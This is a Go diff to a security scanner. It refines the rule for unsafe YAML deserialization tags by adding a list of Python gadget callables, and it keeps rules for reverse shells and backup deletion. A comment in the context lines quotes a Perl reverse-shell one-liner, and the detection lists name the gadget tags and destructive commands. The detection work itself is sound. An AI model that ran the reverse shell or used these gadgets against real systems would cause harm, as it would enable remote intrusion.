@@ -1004,8 +1004,8 @@ func (a *analysis) textSignalsOn(it *item, t string, f float64) {
 		// perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("h:p");open(STDIN,"<&",$s);…exec("/bin/sh -i")'
 		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.88*f)
 	}
-	if h.any("!!python/object/apply:", "!!python/object/new:", "!!python/name:", "!!python/module:", "tag:yaml.org,2002:python/object",
-		"!!javax.script.scriptenginemanager", "!!com.sun.rowset.jdbcrowsetimpl", "!!java.net.urlclassloader", "!ruby/object:gem::", "!ruby/hash:gem::") {
+	if h.any("!!python/object/apply:", "!!python/object/new:", "!!python/name:", "!!python/module:", "tag:yaml.org,2002:python/object") && pythonGadget(l) ||
+		h.any("!!javax.script.scriptenginemanager", "!!com.sun.rowset.jdbcrowsetimpl", "!!java.net.urlclassloader", "!ruby/object:gem::", "!ruby/hash:gem::") {
 		// YAML tags that make a loader construct and call objects
 		// (PyYAML's unsafe load, SnakeYAML, Psych): code execution when
 		// the document is parsed, whatever tool parses it
@@ -1051,6 +1051,29 @@ func (a *analysis) textSignalsOn(it *item, t string, f float64) {
 		h.has("wbadmin") && h.has("delete") || h.has("recoveryenabled no") {
 		a.destr.add("destructive.backup_deletion", it.field, sp(), 0.9*f)
 	}
+}
+
+// pythonGadgets are the callables a PyYAML python/ tag names to run
+// something: a process, a shell, code, an import, a socket.
+var pythonGadgets = []string{"subprocess.", "os.system", "os.popen", "os.exec", "posix.system", "builtins.eval", "builtins.exec", "__builtin__.eval",
+	"__builtin__.exec", "builtins.__import__", "__import__", "commands.getoutput", "pty.spawn", "socket.socket", "eval", "exec"}
+
+// pythonGadget reports a python/ YAML tag in l (lower case) whose target,
+// within 48 bytes of it, is one of pythonGadgets: "apply:builtins.len" in
+// a test of the loader runs nothing.
+func pythonGadget(l string) bool {
+	for i := 0; i < len(l); {
+		j := strings.Index(l[i:], "python/")
+		if j < 0 {
+			return false
+		}
+		j += i
+		if containsAny(l[j:min(len(l), j+48)], pythonGadgets...) {
+			return true
+		}
+		i = j + 7
+	}
+	return false
 }
 
 func containsAny(s string, subs ...string) bool {
